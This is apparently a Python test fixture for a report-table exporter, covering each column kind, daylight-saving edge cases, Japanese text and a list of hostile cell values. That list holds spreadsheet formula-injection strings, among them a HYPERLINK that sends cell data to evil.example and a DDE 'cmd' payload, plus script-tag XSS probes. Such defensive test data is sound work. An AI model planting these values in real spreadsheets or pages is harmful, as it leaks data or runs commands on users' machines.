"""Hand-made table of a report with a column of each kind, and texts that attack spreadsheets."""

from __future__ import annotations

from datetime import UTC, datetime
from zoneinfo import ZoneInfo

from basix_ws_cti.reports.tables import Column, Table

BERLIN = ZoneInfo("Europe/Berlin")

# The two hours before and after the end of summer time, which have the same time of day.
HOURS = [datetime(2026, 10, 25, hour, 30, tzinfo=UTC).astimezone(BERLIN) for hour in (0, 1)]

COLUMNS = (
    Column(key="start", heading="Start", kind="minute"),
    Column(key="day", heading="Day", kind="date", is_detail=True),
    Column(key="at", heading="Time", kind="time"),
    Column(key="group_id", heading="Id", kind="id"),
    Column(key="name", heading="名前", empty="すべて"),
    Column(key="result", heading="Result", words={"answered": "応答"}),
    Column(key="offered", heading="Offered", kind="integer"),
    Column(key="per_hour", heading="Per hour", kind="number"),
    Column(key="talked", heading="Talk time", kind="duration"),
    Column(key="rate", heading="Rate", kind="rate"),
    Column(key="complete", heading="Complete", kind="boolean"),
)

EVENING = datetime(2026, 10, 25, 20, 15, 30, 250_000, tzinfo=BERLIN)

ROWS = (
    (
        HOURS[0],
        HOURS[0],
        EVENING,
        90001001,
        "山田 太郎",
        "answered",
        1234,
        2.5,
        3_661_500_000,
        0.875,
        True,
    ),
    (HOURS[1], HOURS[1], None, 2**62, "00312341234", "busy", 0, 0.0, 0, 0.0, False),
    (HOURS[1], None, None, None, None, None, None, None, None, None, None),
)

# Names that a caller or a user may choose, to make a spreadsheet or browser run something.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "{=1+1}",
    "<script>alert(1)</script>",
    "</script><b>x",
    "http://evil.example/x",
    "mailto:evil@example.com",
    "internal:Sheet1!A1",
    'name;"=1+1',
    "_x003D_1+1",
    "007",
    "1e5",
    "TRUE",
    "2026-11-30",
    "山田,太郎",
)


def hand_made(rows=ROWS, columns=COLUMNS):
    """Return the table."""
    return Table(name="queues", title="Queues", timezone=BERLIN, columns=columns, rows=rows)


def named(names):
    """Return a table whose only column has these names."""
    return hand_made([[name] for name in names], (Column(key="name", heading="Name"),))
